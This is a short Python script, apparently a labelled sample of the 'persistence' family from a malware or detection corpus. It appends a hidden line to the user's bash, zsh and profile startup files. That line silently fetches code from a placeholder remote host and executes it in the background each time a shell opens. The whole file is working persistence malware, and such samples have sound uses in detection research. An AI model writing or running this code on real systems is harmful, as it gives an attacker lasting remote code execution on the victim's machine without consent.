# family: persistence
# a line appended to the user's shell profiles
import os

hook = '\n(nohup python3 -c "import urllib.request as u;exec(u.urlopen(\'http://p.example.invalid/s\').read())" >/dev/null 2>&1 &)\n'
for rc in ("~/.bashrc", "~/.zshrc", "~/.profile"):
    path = os.path.expanduser(rc)
    with open(path, "a") as f:
        f.write(hook)
